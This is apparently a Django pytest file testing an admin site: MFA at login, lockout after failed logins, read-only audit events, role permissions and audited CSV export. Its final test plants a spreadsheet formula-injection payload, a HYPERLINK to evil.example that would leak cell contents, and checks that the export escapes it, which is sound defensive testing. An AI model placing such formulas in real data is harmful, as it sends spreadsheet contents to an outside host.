import csv
import io

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group
from django.core.exceptions import ImproperlyConfigured
from django.test import RequestFactory
from django.urls import reverse

from assistant.users.models import AuditEvent, SecurityEvent
from assistant.users.roles import role_permissions_grant
from assistant.users.tests.factories import UserFactory
from assistant.users.tests.helpers import enable_totp, fresh_code

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff(password):
    user = UserFactory(password=password)
    user.groups.add(Group.objects.get(name="admin"))
    user.refresh_from_db()
    return user


def admin_login(client, user, password, **extra):
    return client.post(
        reverse("admin:login"), {"username": user.email, "password": password, "next": "/admin/", **extra}
    )


def test_every_model_page_opens_for_an_admin(client, staff, user):
    client.force_login(staff)
    AuditEvent.objects.create(actor=user, action="login")
    SecurityEvent.objects.create(kind="login_failed", severity="warning", user=user)

    request = RequestFactory().get("/admin/")
    request.user = staff
    for model, model_admin in admin.site._registry.items():
        info = (model._meta.app_label, model._meta.model_name)
        changelist = client.get(reverse("admin:{}_{}_changelist".format(*info)) + "?q=example")
        assert changelist.status_code == 200, model
        first = model_admin.get_queryset(request).first()
        if first is not None:
            assert client.get(reverse("admin:{}_{}_change".format(*info), args=[first.pk])).status_code == 200


def test_audit_events_can_be_read_but_not_added_edited_or_deleted_even_by_a_superuser(client, user):
    superuser = UserFactory()
    superuser.is_staff = superuser.is_superuser = True
    superuser.save(update_fields=["is_staff", "is_superuser"])
    client.force_login(superuser)
    event = AuditEvent.objects.create(actor=user, action="login")

    page = client.get(reverse("admin:users_auditevent_change", args=[event.pk]))

    assert page.status_code == 200
    assert b'name="_save"' not in page.content
    assert client.get(reverse("admin:users_auditevent_add")).status_code == 403
    assert client.get(reverse("admin:users_auditevent_delete", args=[event.pk])).status_code == 403
    assert AuditEvent.objects.filter(pk=event.pk).exists()


def test_admin_login_without_second_factor_when_required_is_refused(client, staff, password, settings):
    settings.ADMIN_REQUIRE_MFA = True

    response = admin_login(client, staff, password)

    assert response.status_code == 200
    assert b"Set up an authenticator app" in response.content
    assert client.get("/admin/").status_code == 302


def test_admin_login_with_a_code_when_required(client, staff, password, settings):
    settings.ADMIN_REQUIRE_MFA = True
    totp = enable_totp(staff)

    response = admin_login(client, staff, password, otp_code=fresh_code(totp))

    assert response.status_code == 302
    assert client.get("/admin/").status_code == 200
    assert AuditEvent.objects.filter(actor=staff, action="login", details__channel="admin").exists()


def test_a_session_without_a_verified_factor_cannot_enter_when_required(client, staff, settings):
    settings.ADMIN_REQUIRE_MFA = True
    client.force_login(staff)

    assert client.get("/admin/").status_code == 302


def test_admin_login_failures_count_towards_lockout(client, staff, settings):
    settings.LOGIN_FAILURE_LIMIT = 2

    admin_login(client, staff, "wrong")
    response = admin_login(client, staff, "wrong")

    assert b"Too many failed sign-in attempts" in response.content
    assert SecurityEvent.objects.filter(kind="lockout", user=staff).exists()


def test_ordinary_users_cannot_enter(client, user, password):
    response = admin_login(client, user, password)

    assert response.status_code == 200
    assert client.get("/admin/").status_code == 302


def test_role_changes_are_audited_and_set_the_staff_flag(user):
    ops = Group.objects.get(name="ops")

    user.groups.add(ops)
    user.refresh_from_db()
    assert user.is_staff
    ops.user_set.remove(user)
    user.refresh_from_db()

    assert not user.is_staff
    actions = list(AuditEvent.objects.filter(target_id=str(user.pk)).values_list("action", "details"))
    assert ("role_added", {"roles": ["ops"]}) in actions
    assert ("role_removed", {"roles": ["ops"]}) in actions


def test_edits_in_the_admin_are_audited(client, staff, user):
    client.force_login(staff)

    response = client.post(
        reverse("admin:users_user_change", args=[user.pk]),
        {
            "email": user.email,
            "display_name": "Renamed",
            "phone_number": "",
            "timezone": "Europe/Paris",
            "preferred_channel": "chat",
            "is_active": "on",
            "groups": [Group.objects.get(name="user").pk],
            "date_joined_0": "2026-01-01",
            "date_joined_1": "00:00:00",
        },
    )

    assert response.status_code == 302, response.content
    event = AuditEvent.objects.get(action="admin_change")
    assert event.actor == staff
    assert event.details["operation"] == "change"
    assert event.details["object_id"] == str(user.pk)


def test_csv_export_of_security_events_is_audited(client, staff, user):
    client.force_login(staff)
    SecurityEvent.objects.create(kind="login_failed", severity="warning", user=user, ip="10.0.0.1")

    response = client.post(
        reverse("admin:users_securityevent_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(SecurityEvent.objects.values_list("pk", flat=True)),
        },
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert "login_failed" in response.content.decode()
    assert AuditEvent.objects.filter(actor=staff, action="data_export").exists()


def test_roles_exist_with_their_permissions():
    perms = {
        group.name: set(group.permissions.values_list("content_type__app_label", "codename"))
        for group in Group.objects.all()
    }

    assert set(perms) >= {"user", "staff", "ops", "admin"}
    assert perms["user"] == set()
    assert ("users", "view_securityevent") in perms["staff"]
    assert ("users", "change_user") in perms["staff"]
    assert ("users", "change_user") not in perms["ops"]
    assert ("django_celery_beat", "change_periodictask") in perms["ops"]
    assert ("users", "delete_user") in perms["admin"]


def test_granting_to_a_role_that_does_not_exist_is_refused():
    with pytest.raises(ImproperlyConfigured, match="auditor"):
        role_permissions_grant("auditor", "users.view_user")


def test_csv_export_cannot_smuggle_a_formula_into_a_spreadsheet(client, staff, user):
    client.force_login(staff)
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    AuditEvent.objects.create(actor=user, action="login", target_repr=formula)

    response = client.post(
        reverse("admin:users_auditevent_changelist"),
        {"action": "export_csv", "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True))},
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    exported = [row["target_repr"] for row in rows if row["action"] == "login"]
    assert exported == ["'" + formula]
